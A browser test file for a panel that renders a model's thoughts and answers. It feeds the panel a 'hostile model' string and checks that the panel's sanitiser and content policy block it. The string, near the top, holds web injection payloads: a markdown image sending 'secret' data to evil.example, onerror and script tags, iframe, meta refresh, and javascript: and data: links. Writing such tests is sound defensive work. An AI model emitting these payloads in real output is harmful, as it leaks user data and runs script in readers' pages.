import { expect, test } from "vitest";
import type { RunEvent } from "../../src/protocol/run-events";
import { beginning, inBatches, ready } from "../support/panel-runs";
import { describeInBrowser } from "./panel-browser";

const hostile = `
![leak](https://evil.example/?d=secret)
<img src="https://evil.example/a" onerror="window.pwned=1"> <script>window.pwned=1</script>
<iframe src="https://evil.example/b"></iframe><style>@import "https://evil.example/c";</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/d">

[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [run](command:thinkaloud.accept)

[docs](https://docs.example/page)

\`\`\`html
<img src="https://evil.example/e" onerror="window.pwned=1">
\`\`\`

Done.
`;

function runThatSays(text: string): RunEvent[] {
  return [
    ...beginning("run-1", Date.now()),
    { kind: "phase", at: Date.now(), phase: "thinking" },
    { kind: "thought", text },
    { kind: "notice", text: "<img src=https://evil.example/n>" },
    { kind: "answer", text },
  ];
}

describeInBrowser("a hostile model", (open) => {
  test("gets no request out, no script in, and no element that it named", async () => {
    const panel = await open();
    await panel.send(ready, ...inBatches("run-1", runThatSays(hostile), 1));
    await panel.page.waitForTimeout(300);
    expect(panel.foreignRequests).toEqual([]);
    expect(await panel.page.evaluate(() => "pwned" in window)).toBe(false);
    expect(
      await panel.page
        .locator(".runs")
        .locator("img, iframe, script, style, meta, object, form")
        .count(),
    ).toBe(0);
    const links = await panel.page
      .locator(".runs a")
      .evaluateAll((all) => all.map((link) => link.getAttribute("href")));
    expect(links).toEqual(["https://docs.example/page", "https://docs.example/page"]);
    await panel.close();
  });

  test("cannot lead the page away: a link goes to the host as a message", async () => {
    const panel = await open();
    await panel.send(ready, ...inBatches("run-1", runThatSays(hostile), 50));
    const before = panel.page.url();
    await panel.page.locator(".answer a").click();
    expect((await panel.sent()).at(-1)).toEqual({
      kind: "openLink",
      href: "https://docs.example/page",
    });
    await panel.page.locator(".answer a").click({ button: "middle" });
    expect(panel.page.url()).toBe(before);
    expect(panel.page.context().pages()).toHaveLength(1);
    await panel.close();
  });
});

describeInBrowser("the page's policy", (open) => {
  test("refuses HTML from a string, a second policy, inline script and every request", async () => {
    const panel = await open();
    const attempts = await panel.page.evaluate(async () => {
      const outcome = async (attempt: () => unknown): Promise<string> => {
        try {
          await attempt();
          return "allowed";
        } catch (error) {
          return error instanceof Error ? error.name : "refused";
        }
      };
      type Factory = { createPolicy(name: string, rules: object): unknown };
      const factory = (window as unknown as { trustedTypes: Factory }).trustedTypes;
      return {
        html: await outcome(() => {
          document.body.innerHTML = "<b>x</b>";
        }),
        second: await outcome(() => factory.createPolicy("other", {})),
        again: await outcome(() => factory.createPolicy("thinkaloud", {})),
        fetched: await outcome(() => fetch("https://evil.example/")),
        script: await outcome(() => {
          const script = document.createElement("script");
          script.textContent = "window.pwned=1";
          document.body.append(script);
          if ("pwned" in window) return;
          throw new TypeError("not run");
        }),
        picture: await outcome(
          () =>
            new Promise((resolve, reject) => {
              const picture = new Image();
              picture.onload = resolve;
              picture.onerror = () => reject(new TypeError("not loaded"));
              picture.src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
            }),
        ),
      };
    });
    for (const [what, result] of Object.entries(attempts)) expect(result, what).not.toBe("allowed");
    expect(panel.foreignRequests).toEqual([]);
    await panel.close();
  });
});
